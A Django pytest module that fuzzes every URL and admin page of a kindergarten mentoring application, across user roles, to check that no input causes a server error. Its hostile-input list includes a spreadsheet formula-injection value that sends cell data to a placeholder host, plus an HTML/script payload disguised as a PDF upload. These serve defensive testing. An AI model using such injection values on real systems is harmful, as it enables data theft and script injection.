"""Every URL pattern of the application, walked by every role over the demo kindergarten, with hostile
values in whatever the view reads: each query parameter and each form field it asks for (found by
recording what the view reads from GET, POST and FILES, not by a list that would fall behind), and a
file that is not what it claims in each file field. Non-numbers, «²», NUL, dates at the edges, a very
long text and a formula prefix: no input gives a 500.

The demo is loaded once for the module; each URL pattern's test runs in its own savepoint, so what
one pattern's POSTs change or delete is gone before the next begins. A new URL pattern whose ids this
module cannot find a record for fails `test_every_pattern_has_records_to_walk`."""

from __future__ import annotations

import io
import re
import traceback
from contextlib import contextmanager
from dataclasses import dataclass, field
from urllib.parse import quote

import pytest
from django.apps import apps
from django.contrib import admin
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.db.models import Q, QuerySet
from django.http import HttpRequest, QueryDict
from django.test import Client, override_settings
from django.urls import URLPattern, URLResolver, get_resolver
from django.utils import timezone
from django.utils.datastructures import MultiValueDict
from django.utils.http import urlencode
from PIL import Image

from accounts.models import User
from council.models import AgendaItem, Appeal, ProgramReview
from council.models import Meeting as CouncilMeeting
from council.services import appeal_submit
from demo.kindergarten import load_demo
from feeds.models import CalendarFeed
from feeds.services import feed_renew
from growth.models import GrowthRecord, RewardProposal, RewardRule
from materials.models import Material
from mentorship.models import (
    CooperationAgreement,
    CouncilMembership,
    Mentee,
    Mentor,
    MentoringAgreement,
    Pairing,
    PairingConsent,
    PublicationConsent,
    Regulation,
)
from mentorship.services.regulation import regulation_new_edition
from notices.models import Notice
from notices.services import stop_token
from people.imports import TEMPLATE_HEADERS
from people.models import ImportBatch, Organization, Person
from people.references import reference_lists
from people.services import staff_import_prepare
from programs.models import ActivityRecord, Evidence, Meeting, PlanItem, Program, ReleaseRequest
from records.kinds import draftable
from records.models import Order
from records.services import order_draft
from reports.models import AnnualReport
from results.models import Report
from roadmap.models import Activity, Roadmap, Stage
from roadmap.services import roadmap_create
from surveys.models import Question, Questionnaire, Response
from website.models import NewsItem

ROLES = ("head", "curator", "council", "mentor", "mentee", "admin")

HOSTILE = (
    "abc",
    "²",
    "-1",
    "99999999999999999999",
    "a\x00b",
    "0001-01-01",
    "9999-12-31",
    "30.02.2026",
    '=HYPERLINK("http://example.invalid/?d="&A1)',
    "Я" * 10_000,
)

# The record an id in a route names, by the route's text before it (the longest prefix wins): a model,
# or a queryset of it where only some of its records have the page.
RECORDS_BY_PREFIX = {
    "bank/people/": Person,
    "nastavnichestvo/novosti/": NewsItem,
    "nastavnichestvo/predprosmotr/novosti/": NewsItem,
    "nastavnichestvo/upravlenie/novosti/": NewsItem,
    "notices/read/": Notice,
    "bank/orders/": Order,
    "bank/import/": ImportBatch,
    "bank/organizations/": Organization,
    "bank/publication-consents/": PublicationConsent,
    "bank/mentors/": Mentor,
    "bank/mentees/": Mentee,
    "bank/council/": CouncilMembership,
    "bank/pairs/": Pairing,
    "bank/pair-consents/": PairingConsent,
    "bank/agreements/": MentoringAgreement,
    "bank/cooperation/": CooperationAgreement,
    "roadmap/": Roadmap,
    "roadmap/stages/": Stage,
    "roadmap/activities/": Activity,
    "programs/": Program,
    "programs/new/": Pairing,
    "programs/plan/": PlanItem,
    "programs/log/": ActivityRecord,
    "programs/evidence/": Evidence,
    "programs/meetings/": Meeting,
    "programs/releases/": ReleaseRequest,
    "surveys/questionnaires/": Questionnaire,
    "surveys/questions/": Question,
    "surveys/needs/": Response,
    "surveys/responses/": Response,
    "surveys/programs/": Program,
    "growth/": GrowthRecord,
    "growth/rewards/": RewardProposal,
    "growth/rewards/rule/": RewardRule,
    "diagnostics/program/": Program,
    "council/": CouncilMeeting,
    "council/items/": AgendaItem,
    "council/reviews/": ProgramReview,
    "council/reviews/program/": Program,
    "council/appeals/": Appeal,
    "council/appeals/new/": Pairing,
    # The withdrawn material (a link) and a published one with a file, so the file's page is reached too.
    "materials/": Material.objects.filter(Q(withdrawn_at__isnull=False) | ~Q(file="")),
    "results/": Report,
    "results/program/": Program,
    # A portfolio is a person's who is or was a mentor: any other person's is a 404 for everyone.
    "portfolio/": Person.objects.filter(mentor__isnull=False),
}
# How many records of one kind each pattern is walked with: one of each status, or this many.
RECORDS_PER_PATTERN = 2


def _patterns(resolver=None, prefix=""):
    for entry in (resolver or get_resolver()).url_patterns:
        if isinstance(entry, URLResolver):
            yield from _patterns(entry, prefix + str(entry.pattern))
        elif isinstance(entry, URLPattern):
            yield prefix + str(entry.pattern)


# The application's own pages; the Django admin's are walked model by model (ADMIN_MODELS).
ROUTES = sorted({route for route in _patterns() if not route.startswith("admin/")})
ADMIN_MODELS = sorted(f"{model._meta.app_label}.{model._meta.model_name}" for model in admin.site._registry)
# What the admin's changelist reads besides its filters: search, ordering, page, the error flag,
# and the parameters of a popup.
ADMIN_LIST_KEYS = ("q", "o", "p", "e", "_to_field", "_popup", "_changelist_filters")
PARAMETER = re.compile(r"<(?:(?P<converter>\w+):)?(?P<name>\w+)>")


@dataclass
class Walk:
    failures: list[str] = field(default_factory=list)
    requests: int = 0
    reached: int = 0  # requests a role was let through (not 403, 404 or 405)


@pytest.fixture(scope="module")
def demo(django_db_setup, django_db_blocker, tmp_path_factory):
    """The demo kindergarten, in a transaction rolled back after the module."""
    media = override_settings(MEDIA_ROOT=tmp_path_factory.mktemp("media"))
    with django_db_blocker.unblock(), media, transaction.atomic():
        load_demo()
        users = {role: User.objects.get(username=role) for role in ROLES}
        _what_the_demo_lacks(users)
        yield users
        transaction.set_rollback(True)


def _tiny(kind: str) -> ContentFile:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), "white").save(buffer, kind)
    return ContentFile(buffer.getvalue(), name=f"scan.{kind.lower()}")


def _what_the_demo_lacks(users) -> None:
    """Records in the states the demo does not reach, so that every view has something to open: a
    draft roadmap and order, scans of each kind, an evidence file, a previewed staff import, every
    role's calendar address."""
    today = timezone.localdate()
    start = today.year if today.month >= 9 else today.year - 1
    roadmap_create(start_year=start + 1, basis="typical", actor=users["curator"])
    roadmap = Roadmap.objects.exclude(order=None).order_by("pk").first()
    roadmap.annex_pdf.save("annex.pdf", _tiny("PDF"))
    kind, _ = draftable()[0]
    order_draft(kind=kind, actor=users["head"])
    # A new edition of the adopted regulation: a project, so that its edit page is walked too.
    regulation_new_edition(regulation=Regulation.objects.get(), actor=users["curator"])
    registered = Order.objects.exclude(status=Order.Status.DRAFT).order_by("pk").first()
    registered.pdf.save("order.pdf", _tiny("PDF"))
    registered.signed_scan.save("signed.pdf", _tiny("PDF"))
    for model, file_field in (
        (Mentor, "consent_scan"),
        (Mentee, "consent_scan"),
        (PairingConsent, "scan"),
        (PublicationConsent, "scan"),
        (CooperationAgreement, "scan"),
    ):
        record = model._default_manager.order_by("pk").first()
        getattr(record, file_field).save("scan.pdf", _tiny("PDF"))
    record = ActivityRecord.objects.order_by("pk").first()
    Evidence.objects.create(
        record=record,
        file=_tiny("JPEG"),
        original_name="фото.jpg",
        kind=Evidence.Kind.PHOTO,
        size=100,
        uploaded_by=record.program.pairing.mentor.person.user,
    )
    # An appeal still open (the demo's one is heard), so that withdrawing and naming members are walked.
    pairing = Pairing.objects.filter(status__in=Pairing.CURRENT_STATUSES, mentees__person__user=users["mentee"]).first()
    appeal_submit(pairing=pairing, text="Не успеваем встречаться", actor=users["mentee"])
    for user in users.values():  # each role's calendar, walked at its secret address
        feed_renew(user=user, actor=user)
    header = ";".join(TEMPLATE_HEADERS)
    row = ";".join(["901", "Новикова", "Анна", "Петровна", "Воспитатель", "01.09.2024", "01.09.2024", "2"] + [""] * 5)
    staff_import_prepare(
        organization=Organization.objects.get(kind=Organization.Kind.OWN),
        name="staff.csv",
        content=f"{header}\n{row}\n".encode(),
        actor=users["admin"],
    )


@pytest.fixture
def clients(demo, db):
    result = {}
    for role, user in demo.items():
        client = Client()
        client.force_login(user)
        result[role] = client
    return result


def _status_path(model, depth: int = 3) -> str | None:
    """The lookup to the status that decides what may be done with `model`: its own, or its
    parent's (a plan item's program, a stage's roadmap), a few foreign keys up."""
    names = {f.name for f in model._meta.get_fields()}
    if "status" in names:
        return "status"
    if depth:
        for field in model._meta.get_fields():
            if field.many_to_one and field.related_model is not None:
                path = _status_path(field.related_model, depth - 1)
                if path:
                    return f"{field.name}__{path}"
    return None


def _spread(records) -> list[int]:
    """Ids of a few of `records` (a model, or a queryset), one of each status of theirs or of their
    parent's where there is one, so that every branch is walked."""
    rows = records.all() if isinstance(records, QuerySet) else records._default_manager.all()
    path = _status_path(rows.model)
    if path is None:
        return list(rows.order_by("pk").values_list("pk", flat=True)[:RECORDS_PER_PATTERN])
    firsts = {}
    for pk, status in rows.order_by("pk").values_list("pk", path):
        firsts.setdefault(status, pk)
    return list(firsts.values())


def _model_for(route: str, name: str):
    before = route.split(f":{name}>")[0].rsplit("<", 1)[0]
    if before in RECORDS_BY_PREFIX:
        return RECORDS_BY_PREFIX[before]
    if name == "person_pk":
        return Person
    if name == "pairing_pk":
        return Pairing
    if name == "roadmap":
        return Roadmap
    return None


def urls_of(route: str) -> list[str]:
    """Real addresses for a route: its ids filled with records of the demo."""
    parameters = list(PARAMETER.finditer(route))
    if not parameters:
        return ["/" + route]
    names = [match["name"] for match in parameters]
    today = timezone.localdate()
    if names == ["year", "month"]:
        return ["/" + PARAMETER.sub(lambda m: str(today.year if m["name"] == "year" else today.month), route)]
    if names[0] == "kind":
        urls = []
        for slug, model in reference_lists().items():
            ids = _spread(model) if len(names) > 1 else [None]
            for pk in ids:
                values = {"kind": slug, "pk": pk}
                urls.append("/" + PARAMETER.sub(lambda m, values=values: str(values[m["name"]]), route))
        return urls
    if names == ["token"] and route.startswith("calendar/"):
        # A calendar's secret address: every role's feed (the view reads its owner's, not the client's).
        return ["/" + PARAMETER.sub(token, route) for token in CalendarFeed.objects.values_list("token", flat=True)]
    if names == ["pk", "person_pk"]:
        urls = []
        for pairing in Pairing.objects.filter(pk__in=_spread(Pairing)).prefetch_related("mentees"):
            for person_pk in [pairing.mentor.person_id, *(mentee.person_id for mentee in pairing.mentees.all())][:2]:
                values = {"pk": pairing.pk, "person_pk": person_pk}
                urls.append("/" + PARAMETER.sub(lambda m, values=values: str(values[m["name"]]), route))
        return urls
    if names == ["pk", "slug", "person_pk"]:
        # A pair's letters (mentorship.letters): each kind for its mentor and a mentee, and a kind
        # that does not exist.
        from mentorship.letters import KINDS

        urls = []
        for pairing in Pairing.objects.filter(pk__in=_spread(Pairing)).prefetch_related("mentees"):
            for person_pk in [pairing.mentor.person_id, *(mentee.person_id for mentee in pairing.mentees.all())][:2]:
                for slug in [*KINDS, "nonexistent"]:
                    values = {"pk": pairing.pk, "slug": slug, "person_pk": person_pk}
                    urls.append("/" + PARAMETER.sub(lambda m, values=values: str(values[m["name"]]), route))
        return urls
    if names[0] == "year" and route.startswith("reports/annual/"):
        # The annual reports are named by their academic year, each in every format.
        urls = []
        for year in AnnualReport.objects.order_by("start_year").values_list("start_year", flat=True):
            for fmt in ("pdf", "xlsx", "docx") if len(names) > 1 else (None,):
                values = {"year": year, "fmt": fmt}
                urls.append("/" + PARAMETER.sub(lambda m, values=values: str(values[m["name"]]), route))
        return urls
    if names == ["token"] and route.startswith("notices/stop/"):
        # The signed link in a letter (public): a real one of the demo's mentee, and a forged one.
        return [f"/notices/stop/{stop_token(User.objects.get(username='mentee'))}/", "/notices/stop/abc/"]
    if route.startswith("bank/regulation/"):
        # The adopted regulation and the new edition's project: what may be done with each follows from
        # its order, which the spread by status does not see (it finds the organization's head's status).
        pks = Regulation.objects.order_by("pk").values_list("pk", flat=True)
        return ["/" + PARAMETER.sub(str(pk), route) for pk in pks]
    if names == ["slug"] and "nastavnichestvo/" in route:
        # The public section's documents (website.selectors.Publication.documents), and one it has not.
        slugs = ["regulation", "introduction", "curator", "roadmap-order", "roadmap", "nonexistent"]
        return ["/" + PARAMETER.sub(slug, route) for slug in slugs]
    if names == ["person_pk"] and "nastavnichestvo/" in route:
        # A mentor's photo for the section: each photo the demo stores (shown by the consent, or kept
        # back), a mentor without one, and a person who is no mentor.
        from website.models import MentorPhoto

        photographed = list(MentorPhoto.objects.order_by("pk").values_list("person_id", flat=True))
        others = [
            Mentor.objects.exclude(person_id__in=photographed).order_by("pk").values_list("person_id", flat=True)[0],
            Person.objects.filter(mentor__isnull=True).order_by("pk").values_list("pk", flat=True)[0],
        ]
        return ["/" + PARAMETER.sub(str(pk), route) for pk in [*photographed, *others]]
    (name,) = names
    model = _model_for(route, name)
    return ["/" + PARAMETER.sub(str(pk), route) for pk in _spread(model)] if model else []


@contextmanager
def reading_recorded():
    """What a view reads from the request's GET and POST (text) and FILES (files), by key."""
    texts, files = set(), set()
    originals = {name: getattr(MultiValueDict, name) for name in ("get", "getlist", "__getitem__", "__contains__")}
    load = HttpRequest._load_post_and_files

    def marking_files(request):
        load(request)
        request._files.fuzz_read = True

    def recording(name):
        original = originals[name]

        def read(self, key, *args, **kwargs):
            if isinstance(self, QueryDict):
                texts.add(key)
            elif getattr(self, "fuzz_read", False):
                files.add(key)
            return original(self, key, *args, **kwargs)

        return read

    for name in originals:
        setattr(MultiValueDict, name, recording(name))
    HttpRequest._load_post_and_files = marking_files
    try:
        yield texts, files
    finally:
        for name, original in originals.items():
            setattr(MultiValueDict, name, original)
        HttpRequest._load_post_and_files = load


def _send(walk: Walk, client: Client, method: str, url: str, data: dict, what: str) -> int | None:
    walk.requests += 1
    try:
        if method == "get":
            response = client.get(url + ("?" + urlencode(data, doseq=True) if data else ""))
        else:
            response = client.post(url, data)
    except Exception:
        walk.failures.append(f"{what}: {method.upper()} {url} {list(data)!r} → {traceback.format_exc(limit=-12)}")
        return None
    if response.status_code >= 500:
        walk.failures.append(f"{what}: {method.upper()} {url} {list(data)!r} → {response.status_code}")
    elif response.status_code not in (403, 404, 405):
        walk.reached += 1
    return response.status_code


def _hostile_data(texts: set[str], files: set[str], value: str) -> dict:
    data = {key: value for key in texts if key != "csrfmiddlewaretoken"}
    for key in files:
        # HTML behind a PDF's and a JPEG's first bytes: not what the name says.
        data[key] = SimpleUploadedFile(f"{key}.pdf", b"%PDF-1.7\n<html><script>alert(1)</script></html>")
    return data


def walk_url(walk: Walk, clients: dict[str, Client], url: str, query_keys=frozenset()) -> None:
    for role, client in clients.items():
        with reading_recorded() as (read_keys, _):
            status = _send(walk, client, "get", url, {}, role)
        query_keys = read_keys | set(query_keys)
        if status in (200, 302) and query_keys:
            for value in HOSTILE:
                _send(walk, client, "get", url, dict.fromkeys(query_keys, value), role)

        with reading_recorded() as (post_keys, file_keys):
            status = _send(walk, client, "post", url, {}, role)
        if status in (403, 404, 405, None):
            continue
        # A second look with plausible values finds what a view reads once the first fields pass.
        with reading_recorded() as (more_keys, more_files):
            _send(walk, client, "post", url, dict.fromkeys(post_keys, "1"), role)
        post_keys |= more_keys
        file_keys |= more_files
        for value in HOSTILE:
            _send(walk, client, "post", url, _hostile_data(post_keys, file_keys, value), role)


@pytest.mark.parametrize("route", ROUTES)
def test_no_input_gives_a_server_error(route, clients):
    walk = Walk()
    for url in urls_of(route):
        walk_url(walk, clients, url)
    assert not walk.failures, "\n".join(walk.failures[:20])
    # The recording is what makes the walk hostile: a view nobody is let into is not being tested.
    assert walk.reached, f"no role reached {route}: give the demo a record it can open"


def test_every_pattern_has_records_to_walk(demo, db):
    # A route whose ids name no record of the demo would be walked only to its 404s: add its
    # records' model to RECORDS_BY_PREFIX (or a record to the demo) so that its view is reached.
    assert [route for route in ROUTES if not urls_of(route)] == []


def _admin_filter_keys(model_admin) -> set[str]:
    keys = set()
    for item in model_admin.list_filter:
        name = item if isinstance(item, str) else item[0] if isinstance(item, (list, tuple)) else None
        if name is not None:
            keys |= {name, f"{name}__exact", f"{name}__id__exact", f"{name}__isnull"}
        else:
            keys.add(getattr(item, "parameter_name", "") or "")
    return keys - {""}


@pytest.mark.parametrize("label", ADMIN_MODELS)
def test_no_input_to_the_admin_gives_a_server_error(label, clients):
    """Every page the admin has for a model — list, add, change, history, delete — opened by the
    system administrator with hostile values in its query, its form and its object's id."""
    model = apps.get_model(label)
    model_admin = admin.site._registry[model]
    opts = model._meta
    walk = Walk()
    only_admin = {"admin": clients["admin"]}
    base = f"/admin/{opts.app_label}/{opts.model_name}/"
    keys = set(ADMIN_LIST_KEYS) | _admin_filter_keys(model_admin)
    walk_url(walk, only_admin, base, query_keys=keys)
    walk_url(walk, only_admin, f"{base}add/")
    record = model._default_manager.order_by("pk").first()
    for object_id in ([record.pk] if record else []) + ["abc", "²", "a\x00b", "99999999999999999999"]:
        for page in ("change/", "history/", "delete/"):
            walk_url(walk, only_admin, f"{base}{quote(str(object_id))}/{page}")
    assert not walk.failures, "\n".join(walk.failures[:20])
    assert walk.reached, f"the administrator reached no page of {label} in the admin"


def test_no_input_to_the_admins_own_pages_gives_a_server_error(clients):
    walk = Walk()
    only_admin = {"admin": clients["admin"]}
    app_labels = sorted({model._meta.app_label for model in admin.site._registry})
    for url in ["/admin/", "/admin/jsi18n/", "/admin/password_change/", *(f"/admin/{a}/" for a in app_labels)]:
        walk_url(walk, only_admin, url)
    walk_url(
        walk, only_admin, "/admin/autocomplete/", query_keys={"term", "app_label", "model_name", "field_name", "page"}
    )
    for values in (("people", "person", "user"), ("abc", "²", "a\x00b")):
        for value in HOSTILE:
            query = dict(zip(("app_label", "model_name", "field_name"), values, strict=True)) | {"term": value}
            _send(walk, clients["admin"], "get", "/admin/autocomplete/", query, "admin")
    assert not walk.failures, "\n".join(walk.failures[:20])
